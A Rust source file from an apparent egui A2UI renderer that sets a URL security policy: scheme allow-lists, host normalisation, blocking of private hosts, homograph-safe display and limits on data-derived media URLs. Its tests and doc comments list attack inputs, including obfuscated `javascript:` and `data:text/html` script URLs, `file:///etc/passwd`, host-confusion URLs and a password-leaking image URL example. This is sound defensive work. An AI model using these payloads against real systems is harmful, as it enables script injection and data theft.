//! The URL policy ([`UrlPolicy`]) and the types its checks and host hook use.

use std::fmt;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::Arc;
use std::time::Duration;

/// What an agent wants done with a URL.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum UrlUse {
    /// Opened by the host: an `openUrl` action, a Markdown link, a media card's play
    /// button.
    Open,
    /// Loaded and drawn inline: `Image.url`, `Video.posterUrl`, `theme.iconUrl`.
    Media,
}

/// What the per-host hook sees of a URL.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct UrlTarget<'a> {
    /// What the URL is for.
    pub use_: UrlUse,
    /// The scheme, lower-cased (`https`, `data`...).
    pub scheme: &'a str,
    /// The host, normalised ([`normalize_host`]: punycode, dotted-quad IPv4, bracketed
    /// IPv6, lower-case, no trailing dot), without user info or port; `None` for schemes
    /// without one (`data:`).
    pub host: Option<&'a str>,
}

/// Why the policy refused a URL.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum UrlRefusal {
    /// The URL is empty (or only spaces and control characters).
    Empty,
    /// No valid scheme: a relative URL, `//host`, or a scheme broken by odd characters.
    NoScheme,
    /// The scheme is not allowed for this use (lower-cased).
    Scheme(String),
    /// A `data:` media source that is not an image (e.g. `data:text/html`).
    DataNotImage,
    /// A URL that must have a host has none, or its host could not be read.
    BadHost,
    /// The host app's hook refused this host.
    Host(String),
    /// Opening a URL needs a user gesture, and there was none.
    NoUserActivation,
    /// The host's legacy [`ImagePolicy`] refused the source.
    ImagePolicy,
    /// A media source on a loopback, private, link-local, unspecified or CGNAT address, or
    /// a `localhost` name (the normalised host), refused unless the host app called
    /// [`UrlPolicy::allow_private_media_hosts`].
    PrivateHost(String),
    /// A media URL computed from the data model (a binding or a function call, not a
    /// literal) whose host the host app did not allow with
    /// [`UrlPolicy::allow_computed_media_hosts`]: typed data must not leave in a URL
    /// without a gesture. It names no host: a computed host may hold that data.
    ComputedMedia,
}

impl fmt::Display for UrlRefusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Empty => write!(f, "the URL is empty"),
            Self::NoScheme => write!(f, "the URL has no valid scheme"),
            Self::Scheme(s) => write!(f, "the scheme {s:?} is not allowed"),
            Self::DataNotImage => write!(f, "a data: URL that is not an image"),
            Self::BadHost => write!(f, "the URL has no readable host"),
            Self::Host(h) => write!(f, "the host {h:?} is not allowed"),
            Self::NoUserActivation => write!(f, "opening a URL needs a user gesture"),
            Self::ImagePolicy => write!(f, "the host's image policy refused it"),
            Self::PrivateHost(h) => write!(
                f,
                "the host {h:?} is a local or private address, not allowed for media"
            ),
            Self::ComputedMedia => write!(
                f,
                "a media URL computed from data may load only from hosts the host app listed"
            ),
        }
    }
}

/// The hook a host app installs to allow or refuse URLs by host.
pub type HostFilter = Arc<dyn Fn(&UrlTarget<'_>) -> bool + Send + Sync>;

/// The URL policy: which schemes each [`UrlUse`] may have, whether opening needs a user
/// gesture, and an optional per-host hook. Cheap to clone.
///
/// It is the one policy for every address an agent can hand the host: `openUrl` (the function and
/// the action), links in Markdown `Text`, and every media source (`Image`, `Video` poster,
/// the surface header's `theme.iconUrl`). The implementation [guide] says "allow only the
/// http: and https: schemes" for `openUrl`; a scheme allow-list covers media too, and v1.0 says
/// "require an active user gesture".
///
/// A URL is read as the WHATWG URL parser reads its start, so tricks that browsers undo are
/// undone here first: leading and trailing C0 control characters and spaces are dropped,
/// tabs and newlines anywhere are removed, the scheme is case-folded, and `\` counts as `/`
/// before the host. A URL without a valid scheme (relative, `//host`, or a scheme with a
/// control character inside such as `java\0script:`) is refused: there is no base URL to
/// resolve it against.
///
/// Hosts are normalised before any rule or hook sees them, as the WHATWG host parser does
/// (the `url` crate): internationalised names become ASCII (punycode, `xn--…`), fullwidth
/// dots and letters are mapped, the IPv4 number forms (`2130706433`, `127.1`, `0x7f.1`,
/// octal) become a dotted quad, IPv6 addresses keep their brackets in canonical form, and a
/// trailing dot is dropped. So a deny-list hook sees `127.0.0.1`, never `2130706433`.
///
/// The defaults: `http` and `https` may be opened, after a user gesture; media may load
/// from `https` and from `data:image/*` (never `data:text/html`, `file:`, `javascript:` or
/// plain `http`). A host app narrows or widens this with [`UrlPolicy::with_open_schemes`],
/// [`UrlPolicy::with_media_schemes`] and a per-host hook ([`UrlPolicy::with_host_filter`],
/// or the allow-list [`UrlPolicy::allow_hosts`]).
///
/// Two media rules stop an agent from using the host as a request-forger or a data leak:
///
/// - **Local and private addresses.** Media never loads from loopback (`127.0.0.0/8`,
///   `::1`), private (RFC 1918, `fc00::/7`), link-local (`169.254.0.0/16`, `fe80::/10`),
///   unspecified, CGNAT (`100.64.0.0/10`) or broadcast addresses, nor from `localhost`
///   names ([`UrlRefusal::PrivateHost`]); a host app on a LAN turns this off with
///   [`UrlPolicy::allow_private_media_hosts`]. `file:` sources (off by default) are not
///   affected.
/// - **Computed media.** A media URL that comes from a binding or a function call (an
///   `Image.url` of `{"call": "formatString", "args": {"value":
///   "https://x.example/p.png?k=${/password}"}}`) is loaded without any gesture, so it
///   could carry what the user types to a third party. Such URLs load only from the hosts
///   listed with [`UrlPolicy::allow_computed_media_hosts`] (none by default:
///   [`UrlRefusal::ComputedMedia`]; computed `data:` images, which fetch nothing, pass).
///   Even from an allowed host a computed URL is fetched only once it has stayed the same
///   for [`UrlPolicy::with_computed_media_settle`] (1 s by default), so typing into a
///   bound field does not send one request per keystroke. Literal URLs keep the rules
///   above.
///
/// ```
/// use egui_a2ui::{UrlPolicy, UrlRefusal, UrlUse};
///
/// let policy = UrlPolicy::default().allow_hosts(["example.com"]);
/// assert!(policy.check("https://docs.example.com/a", UrlUse::Open, true).is_ok());
/// assert!(policy.check("https://evil.test/", UrlUse::Open, true).is_err());
/// assert_eq!(
///     policy.check("javascript:alert(1)", UrlUse::Open, true),
///     Err(UrlRefusal::Scheme("javascript".into()))
/// );
/// // Opening needs a user gesture; drawing media does not, and plain `http` is no media source.
/// assert!(policy.check("https://example.com/a", UrlUse::Open, false).is_err());
/// assert!(policy.check("http://example.com/a.png", UrlUse::Media, false).is_err());
/// ```
///
/// [guide]: https://github.com/a2ui-project/a2ui/blob/main/specification/v0_9/docs/basic_catalog_implementation_guide.md
#[derive(Clone)]
pub struct UrlPolicy {
    open_schemes: Vec<String>,
    media_schemes: Vec<String>,
    require_user_activation: bool,
    host_filter: Option<HostFilter>,
    image_policy: Option<Arc<dyn ImagePolicy>>,
    allow_private_media: bool,
    computed_media_hosts: Arc<[String]>,
    computed_media_settle: Duration,
}

/// How long a computed media URL must stay the same before it is fetched (the default of
/// [`UrlPolicy::with_computed_media_settle`]).
pub const DEFAULT_COMPUTED_MEDIA_SETTLE: Duration = Duration::from_secs(1);

/// The schemes that may be opened by default (the implementation [guide]'s `openUrl` rule).
///
/// [guide]: https://github.com/a2ui-project/a2ui/blob/main/specification/v0_9/docs/basic_catalog_implementation_guide.md
pub const DEFAULT_OPEN_SCHEMES: &[&str] = &["http", "https"];
/// The schemes media may load from by default (`data:` only for `image/*`).
pub const DEFAULT_MEDIA_SCHEMES: &[&str] = &["https", "data"];

/// Characters of a URL read to find its scheme, host and `data:` type; a URL whose host
/// does not end within them is refused.
const HEAD_CHARS: usize = 4096;

impl Default for UrlPolicy {
    fn default() -> Self {
        Self {
            open_schemes: DEFAULT_OPEN_SCHEMES
                .iter()
                .map(|s| (*s).to_owned())
                .collect(),
            media_schemes: DEFAULT_MEDIA_SCHEMES
                .iter()
                .map(|s| (*s).to_owned())
                .collect(),
            require_user_activation: true,
            host_filter: None,
            image_policy: None,
            allow_private_media: false,
            computed_media_hosts: Arc::from(Vec::new()),
            computed_media_settle: DEFAULT_COMPUTED_MEDIA_SETTLE,
        }
    }
}

impl fmt::Debug for UrlPolicy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("UrlPolicy")
            .field("open_schemes", &self.open_schemes)
            .field("media_schemes", &self.media_schemes)
            .field("require_user_activation", &self.require_user_activation)
            .field("host_filter", &self.host_filter.is_some())
            .field("image_policy", &self.image_policy.is_some())
            .field("allow_private_media", &self.allow_private_media)
            .field("computed_media_hosts", &self.computed_media_hosts)
            .field("computed_media_settle", &self.computed_media_settle)
            .finish()
    }
}

/// The parts of a URL the policy reads.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct UrlParts {
    /// The scheme, lower-cased.
    pub scheme: String,
    /// The host, normalised (see [`normalize_host`]); `None` for a scheme without `//`
    /// authority.
    pub host: Option<String>,
    /// For `data:` URLs, the media type, lower-cased (`image/png`).
    pub data_type: Option<String>,
}

/// A URL with the characters browsers ignore removed: leading and trailing C0 controls and
/// spaces, and every tab and newline. This is the URL handed to the host to open.
pub fn clean(url: &str) -> String {
    url.trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect()
}

/// The scheme of a URL, lower-cased, read as browsers read it (leading controls and spaces
/// ignored, tabs and newlines dropped); `None` when it has none.
pub fn scheme_of(url: &str) -> Option<String> {
    let head = clean_head(url);
    let (scheme, _) = head.split_once(':')?;
    let mut chars = scheme.chars();
    let valid = chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    valid.then(|| scheme.to_ascii_lowercase())
}

/// The first [`HEAD_CHARS`] characters of `url`, cleaned as [`clean`] does (without
/// copying a `data:` URL of megabytes).
fn clean_head(url: &str) -> String {
    url.trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .take(HEAD_CHARS)
        .collect()
}

/// A host as the WHATWG host parser reads it (the `url` crate): percent-decoded,
/// internationalised names to ASCII (punycode, fullwidth dots and letters mapped),
/// the IPv4 number forms (`2130706433`, `127.1`, `0x7f.1`, `0177.0.0.1`) to a dotted quad,
/// IPv6 in brackets in canonical form (`[::1]`); lower-case, without a trailing dot.
/// Every rule and the host app's hook see hosts in this form.
///
/// ```
/// use egui_a2ui::normalize_host;
///
/// assert_eq!(normalize_host("2130706433").as_deref(), Ok("127.0.0.1"));
/// assert_eq!(normalize_host("0x7f.1").as_deref(), Ok("127.0.0.1"));
/// assert_eq!(normalize_host("attacker\u{ff0e}example").as_deref(), Ok("attacker.example"));
/// assert_eq!(normalize_host("B\u{fc}cher.Example.").as_deref(), Ok("xn--bcher-kva.example"));
/// ```
pub fn normalize_host(raw: &str) -> Result<String, UrlRefusal> {
    let host = url::Host::parse(raw).map_err(|_| UrlRefusal::BadHost)?;
    let host = match host {
        url::Host::Domain(d) => d.trim_end_matches('.').to_ascii_lowercase(),
        url::Host::Ipv4(a) => a.to_string(),
        url::Host::Ipv6(a) => format!("[{a}]"),
    };
    if host.is_empty() {
        return Err(UrlRefusal::BadHost);
    }
    Ok(host)
}

/// Whether an IPv4 address is loopback, private (RFC 1918), link-local, unspecified
/// (`0.0.0.0/8`), CGNAT (`100.64.0.0/10`) or broadcast.
fn private_v4(a: Ipv4Addr) -> bool {
    let [b0, b1, ..] = a.octets();
    a.is_loopback()
        || a.is_private()
        || a.is_link_local()
        || a.is_broadcast()
        || b0 == 0
        || (b0 == 100 && (64..128).contains(&b1))
}

/// Whether an IPv6 address is loopback, unspecified, unique-local (`fc00::/7`),
/// link-local (`fe80::/10`), site-local (`fec0::/10`), or embeds a private IPv4 address.
fn private_v6(a: Ipv6Addr) -> bool {
    let s0 = a.segments()[0];
    a.is_loopback()
        || a.is_unspecified()
        || (s0 & 0xfe00) == 0xfc00
        || (s0 & 0xffc0) == 0xfe80
        || (s0 & 0xffc0) == 0xfec0
        || a.to_ipv4().is_some_and(private_v4)
}

/// Whether a normalised host ([`normalize_host`]) is a local or private address: loopback,
/// private, link-local, unspecified, CGNAT or broadcast, or a `localhost` name. Media from
/// such hosts is refused unless the host app allowed it
/// ([`UrlPolicy::allow_private_media_hosts`]).
pub fn is_private_host(host: &str) -> bool {
    if let Some(v6) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        return v6.parse::<Ipv6Addr>().is_ok_and(private_v6);
    }
    if let Ok(v4) = host.parse::<Ipv4Addr>() {
        return private_v4(v4);
    }
    host == "localhost" || host.ends_with(".localhost")
}

/// Whether `host` is one of `list` or a subdomain of one (both normalised).
fn host_listed(host: &str, list: &[String]) -> bool {
    list.iter().any(|a| {
        host == a
            || host
                .strip_suffix(a.as_str())
                .is_some_and(|sub| sub.ends_with('.'))
    })
}

/// An allow-list entry in the form hosts are compared in (an entry that is no valid host
/// is kept lower-cased, and then matches nothing real).
fn normalize_entry(h: &str) -> String {
    normalize_host(h).unwrap_or_else(|_| h.trim_end_matches('.').to_ascii_lowercase())
}

/// The scripts a host label's letters are told apart by in [`display_host`]. A coarse
/// split by Unicode block: enough to see a label mixing Latin and Cyrillic letters.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Script {
    Latin,
    Greek,
    Cyrillic,
    Armenian,
    Hebrew,
    Arabic,
    Indic,
    Thai,
    Georgian,
    Hangul,
    /// Han, Hiragana and Katakana: Japanese mixes them.
    Cjk,
    Other,
}

/// The script of a letter, `None` for digits, hyphens and marks common to all.
fn script_of(c: char) -> Option<Script> {
    let u = u32::from(c);
    Some(match u {
        0x30..=0x39 | 0x2d | 0x300..=0x36f | 0x30fc => return None,
        0x41..=0x5a | 0x61..=0x7a | 0xc0..=0x24f | 0x1e00..=0x1eff => Script::Latin,
        0x370..=0x3ff | 0x1f00..=0x1fff => Script::Greek,
        0x400..=0x52f | 0x2de0..=0x2dff | 0xa640..=0xa69f => Script::Cyrillic,
        0x530..=0x58f => Script::Armenian,
        0x590..=0x5ff => Script::Hebrew,
        0x600..=0x6ff | 0x750..=0x77f | 0x8a0..=0x8ff => Script::Arabic,
        0x900..=0xdff => Script::Indic,
        0xe00..=0xe7f => Script::Thai,
        0x10a0..=0x10ff => Script::Georgian,
        0x1100..=0x11ff | 0xac00..=0xd7af => Script::Hangul,
        0x3040..=0x30ff | 0x3400..=0x4dbf | 0x4e00..=0x9fff => Script::Cjk,
        _ => Script::Other,
    })
}

/// Whether a Unicode label may be shown as it is: its letters are all of one script, and
/// that script is not one whose letters pass for Latin ones (Greek, Cyrillic, Armenian:
/// whole-script look-alikes such as `аррӏе`). Anything else is shown as punycode.
fn label_shows_as_unicode(label: &str) -> bool {
    let mut seen = None;
    for c in label.chars() {
        match (script_of(c), seen) {
            (None, _) => {}
            (Some(Script::Other), _) => return false,
            (Some(s), None) => seen = Some(s),
            (Some(s), Some(first)) if s != first => return false,
            _ => {}
        }
    }
    !matches!(
        seen,
        Some(Script::Greek | Script::Cyrillic | Script::Armenian)
    )
}

/// The host of a URL as it should be shown to the user (a media card's source line, a
/// link's hover text): the host the policy parsed and would load or open, so
/// `https://attacker.example\@bank.com/v.mp4` shows `attacker.example`. An
/// internationalised name is shown in Unicode only when each label is in one script that
/// does not imitate Latin; otherwise (mixed scripts, Cyrillic or Greek look-alikes) as
/// punycode (`xn--…`). `None` for a URL without a host (`data:`) or one the policy cannot
/// read.
///
/// ```
/// use egui_a2ui::display_host;
///
/// assert_eq!(display_host("https://attacker.example\\@bank.com/v.mp4").as_deref(), Some("attacker.example"));
/// assert_eq!(display_host("https://b\u{fc}cher.example/").as_deref(), Some("b\u{fc}cher.example"));
/// // A Cyrillic `а` among Latin letters: shown as punycode.
/// assert_eq!(display_host("https://\u{430}pple.com/").as_deref(), Some("xn--pple-43d.com"));
/// assert_eq!(display_host("data:image/png;base64,AA"), None);
/// ```
pub fn display_host(url: &str) -> Option<String> {
    let host = parse(url).ok()?.host?;
    if !host.split('.').any(|l| l.starts_with("xn--")) {
        return Some(host);
    }
    let (unicode, result) = idna::domain_to_unicode(&host);
    if result.is_err() {
        return Some(host);
    }
    let shown = unicode.split('.').all(label_shows_as_unicode);
    Some(if shown { unicode } else { host })
}

/// Read the scheme, host and `data:` type of a URL.
pub fn parse(url: &str) -> Result<UrlParts, UrlRefusal> {
    let head = clean_head(url);
    if head.trim_end_matches(|c: char| c <= ' ').is_empty() {
        return Err(UrlRefusal::Empty);
    }
    let scheme = scheme_of(&head).ok_or(UrlRefusal::NoScheme)?;
    let rest = head.get(scheme.len() + 1..).unwrap_or_default();
    let mut parts = UrlParts {
        scheme,
        host: None,
        data_type: None,
    };
    if parts.scheme == "data" {
        let media = rest.split([',', ';']).next().unwrap_or_default();
        parts.data_type = Some(media.trim().to_ascii_lowercase());
        return Ok(parts);
    }
    let special = matches!(
        parts.scheme.as_str(),
        "http" | "https" | "ws" | "wss" | "ftp"
    );
    let slashes = rest.len() - rest.trim_start_matches(['/', '\\']).len();
    if special || slashes >= 2 {
        let after = rest.trim_start_matches(['/', '\\']);
        let Some(end) = after.find(['/', '\\', '?', '#']).or_else(|| {
            // The whole head is authority: fine when the URL ended inside it.
            (head.chars().count() < HEAD_CHARS).then_some(after.len())
        }) else {
            return Err(UrlRefusal::BadHost);
        };
        let authority = after.get(..end).unwrap_or_default();
        let host_port = authority.rsplit('@').next().unwrap_or_default();
        let host = if let Some(v6) = host_port.strip_prefix('[') {
            format!("[{}]", v6.split(']').next().unwrap_or_default())
        } else {
            host_port.split(':').next().unwrap_or_default().to_owned()
        };
        parts.host = Some(normalize_host(&host)?);
    }
    Ok(parts)
}

impl UrlPolicy {
    /// The default policy (see [`UrlPolicy`]).
    pub fn new() -> Self {
        Self::default()
    }

    /// The schemes that may be opened (lower-case), replacing the default `http`, `https`.
    pub fn with_open_schemes<S: AsRef<str>>(
        mut self,
        schemes: impl IntoIterator<Item = S>,
    ) -> Self {
        self.open_schemes = schemes
            .into_iter()
            .map(|s| s.as_ref().to_ascii_lowercase())
            .collect();
        self
    }

    /// The schemes media may load from, replacing the default `https`, `data` (`data:`
    /// always only for `image/*`). Add `http` for a trusted local network, for example.
    pub fn with_media_schemes<S: AsRef<str>>(
        mut self,
        schemes: impl IntoIterator<Item = S>,
    ) -> Self {
        self.media_schemes = schemes
            .into_iter()
            .map(|s| s.as_ref().to_ascii_lowercase())
            .collect();
        self
    }

    /// Whether opening a URL needs a user gesture (default `true`, as v1.0 requires).
    pub fn with_user_activation(mut self, required: bool) -> Self {
        self.require_user_activation = required;
        self
    }

    /// A hook deciding by host, after the scheme rules passed: return `false` to refuse.
    pub fn with_host_filter(
        mut self,
        filter: impl Fn(&UrlTarget<'_>) -> bool + Send + Sync + 'static,
    ) -> Self {
        self.host_filter = Some(Arc::new(filter));
        self
    }

    /// An allow-list of hosts: a URL with a host passes only when its host is one of these
    /// or a subdomain of one. URLs without a host (`data:` images) are not affected.
    /// The entries are normalised as hosts are ([`normalize_host`]): `bücher.example`
    /// matches the punycode host a URL naming it has.
    pub fn allow_hosts<S: AsRef<str>>(self, hosts: impl IntoIterator<Item = S>) -> Self {
        let hosts: Vec<String> = hosts
            .into_iter()
            .map(|h| normalize_entry(h.as_ref()))
            .collect();
        self.with_host_filter(move |t| t.host.is_none_or(|h| host_listed(h, &hosts)))
    }

    /// Let media load from loopback, private, link-local, unspecified and CGNAT addresses
    /// and `localhost` names (refused by default, [`UrlRefusal::PrivateHost`]): for a host
    /// app whose agents legitimately show images from its LAN.
    pub fn allow_private_media_hosts(mut self, allow: bool) -> Self {
        self.allow_private_media = allow;
        self
    }

    /// The hosts (and their subdomains) that media URLs computed from the data model may
    /// load from: an `Image.url`, `Video.posterUrl`, `Video.url` or `AudioPlayer.url` that
    /// is a binding or a function call rather than a literal. None by default, so such a
    /// URL is refused ([`UrlRefusal::ComputedMedia`]) unless it is a `data:` URI (which
    /// fetches nothing). Replaces any earlier list. The other rules still apply. See
    /// [`UrlPolicy`] for why, and [`UrlPolicy::with_computed_media_settle`].
    pub fn allow_computed_media_hosts<S: AsRef<str>>(
        mut self,
        hosts: impl IntoIterator<Item = S>,
    ) -> Self {
        self.computed_media_hosts = hosts
            .into_iter()
            .map(|h| normalize_entry(h.as_ref()))
            .collect();
        self
    }

    /// How long a computed media URL (see [`UrlPolicy::allow_computed_media_hosts`]) must
    /// stay the same, in the frame clock, before it is fetched (1 s by default): while the
    /// user types into a field the URL is built from, nothing is requested; once typing
    /// pauses, one request is. [`Duration::ZERO`] fetches every change at once.
    pub fn with_computed_media_settle(mut self, settle: Duration) -> Self {
        self.computed_media_settle = settle;
        self
    }

    /// The settle time of computed media URLs ([`UrlPolicy::with_computed_media_settle`]).
    pub fn computed_media_settle(&self) -> Duration {
        self.computed_media_settle
    }

    /// [`UrlPolicy::check`] for a media URL computed from the data model: the media rules,
    /// then the host must be one allowed with [`UrlPolicy::allow_computed_media_hosts`]
    /// (`data:` URIs pass).
    pub fn check_computed_media(&self, url: &str) -> Result<(), UrlRefusal> {
        self.check(url, UrlUse::Media, false)?;
        self.computed_rule(url)
    }

    /// [`UrlPolicy::check_playable`] for a playable source computed from the data model
    /// (see [`UrlPolicy::check_computed_media`]).
    #[cfg(feature = "media")]
    pub fn check_computed_playable(&self, url: &str) -> Result<(), UrlRefusal> {
        self.check_playable(url)?;
        self.computed_rule(url)
    }

    fn computed_rule(&self, url: &str) -> Result<(), UrlRefusal> {
        let parts = parse(url)?;
        if parts.scheme == "data" {
            return Ok(());
        }
        match parts.host {
            Some(h) if host_listed(&h, &self.computed_media_hosts) => Ok(()),
            _ => Err(UrlRefusal::ComputedMedia),
        }
    }

    /// Migration from the former `RendererOptions::image_policy`: media sources are decided
    /// by this [`ImagePolicy`] instead of the media schemes
    /// (the host hook still applies).
    pub fn with_image_policy(mut self, policy: impl ImagePolicy + 'static) -> Self {
        self.image_policy = Some(Arc::new(policy));
        self
    }

    /// Whether `scheme` (lower-case) is allowed for `use_`, before any host check.
    pub fn scheme_allowed(&self, use_: UrlUse, scheme: &str) -> bool {
        let list = match use_ {
            UrlUse::Open => &self.open_schemes,
            UrlUse::Media => &self.media_schemes,
        };
        list.iter().any(|s| s == scheme)
    }

    /// Check a URL for a use. `user_activated`: the request follows a user gesture (a
    /// click, a key press, an assistive-technology action) in this frame.
    ///
    /// This is also the check an http loader applies to each redirect target
    /// (`check(location, UrlUse::Media, false)`): the host is normalised and local or
    /// private addresses are refused the same way.
    pub fn check(&self, url: &str, use_: UrlUse, user_activated: bool) -> Result<(), UrlRefusal> {
        self.check_with(url, use_, user_activated, |t| t.starts_with("image/"))
    }

    /// [`UrlPolicy::check`] for a media source that plays (`Video.url`, `AudioPlayer.url`):
    /// the media rules, with `data:` allowed for `audio/*` and `video/*` instead of images.
    /// The refusal for another `data:` type is [`UrlRefusal::DataNotImage`].
    #[cfg(feature = "media")]
    pub fn check_playable(&self, url: &str) -> Result<(), UrlRefusal> {
        self.check_with(url, UrlUse::Media, false, |t| {
            t.starts_with("audio/") || t.starts_with("video/")
        })
    }

    fn check_with(
        &self,
        url: &str,
        use_: UrlUse,
        user_activated: bool,
        data_type_ok: impl Fn(&str) -> bool,
    ) -> Result<(), UrlRefusal> {
        let parts = parse(url)?;
        if use_ == UrlUse::Media
            && let Some(legacy) = &self.image_policy
        {
            if !legacy.allows(url) {
                return Err(UrlRefusal::ImagePolicy);
            }
        } else {
            if !self.scheme_allowed(use_, &parts.scheme) {
                return Err(UrlRefusal::Scheme(parts.scheme));
            }
            if parts.scheme == "data" && !parts.data_type.as_deref().is_some_and(&data_type_ok) {
                return Err(UrlRefusal::DataNotImage);
            }
            if matches!(parts.scheme.as_str(), "http" | "https") && parts.host.is_none() {
                return Err(UrlRefusal::BadHost);
            }
        }
        if use_ == UrlUse::Media
            && !self.allow_private_media
            && parts.scheme != "file"
            && let Some(host) = parts.host.as_deref()
            && is_private_host(host)
        {
            return Err(UrlRefusal::PrivateHost(host.to_owned()));
        }
        if let Some(filter) = &self.host_filter {
            let target = UrlTarget {
                use_,
                scheme: &parts.scheme,
                host: parts.host.as_deref(),
            };
            if !filter(&target) {
                return Err(UrlRefusal::Host(parts.host.unwrap_or_default()));
            }
        }
        if use_ == UrlUse::Open && self.require_user_activation && !user_activated {
            return Err(UrlRefusal::NoUserActivation);
        }
        Ok(())
    }

    /// Whether a media source may be loaded.
    pub fn allows_media(&self, url: &str) -> bool {
        self.check(url, UrlUse::Media, false).is_ok()
    }
}

/// Whether the current frame's input holds a user gesture: a pointer button, a key press,
/// or an assistive-technology action.
pub fn user_activated(ctx: &egui::Context) -> bool {
    ctx.input(|i| {
        i.events.iter().any(|e| {
            matches!(
                e,
                egui::Event::PointerButton { .. }
                    | egui::Event::Key { pressed: true, .. }
                    | egui::Event::AccessKitActionRequest(_)
                    | egui::Event::Touch { .. }
            )
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn open(url: &str) -> Result<(), UrlRefusal> {
        UrlPolicy::default().check(url, UrlUse::Open, true)
    }

    fn media(url: &str) -> Result<(), UrlRefusal> {
        UrlPolicy::default().check(url, UrlUse::Media, false)
    }

    #[test]
    fn http_and_https_open_after_a_gesture_only() {
        assert_eq!(open("https://example.com/a"), Ok(()));
        assert_eq!(open("http://example.com"), Ok(()));
        assert_eq!(
            UrlPolicy::default().check("https://example.com", UrlUse::Open, false),
            Err(UrlRefusal::NoUserActivation)
        );
        let relaxed = UrlPolicy::default().with_user_activation(false);
        assert_eq!(
            relaxed.check("https://example.com", UrlUse::Open, false),
            Ok(())
        );
    }

    #[test]
    fn dangerous_schemes_are_refused_for_every_use() {
        for url in [
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "file:///etc/passwd",
            "mailto:a@example.com",
            "vbscript:msgbox",
        ] {
            assert!(open(url).is_err(), "open {url}");
            assert!(media(url).is_err(), "media {url}");
        }
        assert_eq!(
            open("mailto:a@b.c"),
            Err(UrlRefusal::Scheme("mailto".into()))
        );
        assert_eq!(media("data:text/html,hi"), Err(UrlRefusal::DataNotImage));
        assert_eq!(
            open("data:image/png;base64,AA"),
            Err(UrlRefusal::Scheme("data".into()))
        );
    }

    #[test]
    fn mixed_case_and_whitespace_tricks_are_read_as_browsers_read_them() {
        // Refused however they are dressed up.
        for url in [
            "JavaScript:alert(1)",
            "JAVASCRIPT:alert(1)",
            "  javascript:alert(1)",
            "\u{1}\u{2}javascript:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "java\r\nscript:alert(1)",
            "javascript\t:alert(1)",
            "\u{0}javascript:alert(1)",
            "DaTa:text/html,x",
            " FILE:///etc/passwd ",
        ] {
            assert!(open(url).is_err(), "{url:?}");
            assert!(media(url).is_err(), "{url:?}");
        }
        // A control character inside the scheme breaks it: no scheme, refused.
        assert_eq!(open("java\u{0}script:alert(1)"), Err(UrlRefusal::NoScheme));
        // Allowed ones still pass when dressed up the same way.
        assert_eq!(open("  HTTPS://Example.com/x \n"), Ok(()));
        assert_eq!(open("ht\ttps://example.com"), Ok(()));
        assert_eq!(
            clean(" \u{1}ht\ttps://example.com/a\n "),
            "https://example.com/a"
        );
        assert_eq!(media(" DATA:IMAGE/PNG;base64,AA"), Ok(()));
    }

    #[test]
    fn relative_and_hostless_urls_are_refused() {
        assert_eq!(open(""), Err(UrlRefusal::Empty));
        assert_eq!(open(" \t\n"), Err(UrlRefusal::Empty));
        assert_eq!(open("//example.com"), Err(UrlRefusal::NoScheme));
        assert_eq!(open("/etc/passwd"), Err(UrlRefusal::NoScheme));
        assert_eq!(open("https://"), Err(UrlRefusal::BadHost));
        // As in browsers, extra slashes before the host are skipped.
        assert_eq!(
            parse("https:///path").map(|p| p.host),
            Ok(Some("path".into()))
        );
        assert_eq!(open("https://?q"), Err(UrlRefusal::BadHost));
    }

    #[test]
    fn hosts_are_read_past_user_info_ports_and_backslashes() {
        let p = parse("https://user:pw@Example.COM.:8443/x").unwrap();
        assert_eq!(p.host.as_deref(), Some("example.com"));
        let p = parse("https:\\\\evil.com\\x").unwrap();
        assert_eq!(p.host.as_deref(), Some("evil.com"));
        let p = parse("https://trusted.com@evil.com/").unwrap();
        assert_eq!(p.host.as_deref(), Some("evil.com"));
        let p = parse("https://%65vil.com/").unwrap();
        assert_eq!(p.host.as_deref(), Some("evil.com"));
        let p = parse("http://[::1]:80/").unwrap();
        assert_eq!(p.host.as_deref(), Some("[::1]"));
    }

    #[test]
    fn the_host_allow_list_applies_to_opening_and_media() {
        let p = UrlPolicy::default().allow_hosts(["example.com"]);
        assert_eq!(p.check("https://example.com/a", UrlUse::Open, true), Ok(()));
        assert_eq!(
            p.check("https://cdn.example.com/a.png", UrlUse::Media, false),
            Ok(())
        );
        assert_eq!(
            p.check("https://evil.com/", UrlUse::Open, true),
            Err(UrlRefusal::Host("evil.com".into()))
        );
        assert!(
            p.check("https://badexample.com/", UrlUse::Open, true)
                .is_err()
        );
        assert!(
            p.check("https://example.com@evil.com/", UrlUse::Open, true)
                .is_err()
        );
        assert!(
            p.check("https://example.com.evil.com/", UrlUse::Media, false)
                .is_err()
        );
        // data: images have no host and are not affected.
        assert_eq!(
            p.check("data:image/png;base64,AA", UrlUse::Media, false),
            Ok(())
        );
    }

    #[test]
    fn media_defaults_to_https_and_data_images() {
        assert_eq!(media("https://example.com/a.png"), Ok(()));
        assert_eq!(
            media("http://example.com/a.png"),
            Err(UrlRefusal::Scheme("http".into()))
        );
        let lan = UrlPolicy::default().with_media_schemes(["http", "https"]);
        assert_eq!(
            lan.check("http://printer.local/a.png", UrlUse::Media, false),
            Ok(())
        );
    }

    #[test]
    fn a_long_data_url_is_checked_without_copying_it() {
        let url = format!("data:image/png;base64,{}", "A".repeat(1_000_000));
        assert_eq!(media(&url), Ok(()));
        let long_user = format!("https://{}@evil.com/", "a".repeat(10_000));
        assert_eq!(open(&long_user), Err(UrlRefusal::BadHost));
    }
}

/// Which URLs images may load from: the former image-only policy, superseded by the one
